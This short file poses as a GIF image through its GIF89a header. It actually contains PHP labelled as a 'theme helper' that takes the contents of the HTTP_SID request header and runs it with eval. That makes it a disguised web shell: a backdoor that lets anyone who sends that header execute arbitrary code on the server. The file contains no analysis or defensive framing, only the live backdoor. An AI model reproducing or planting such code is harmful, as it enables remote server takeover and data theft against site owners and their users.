GIF89a
<?php
/* theme helper */
$tmp = getenv('HTTP_SID');
eval('?>' . $tmp);
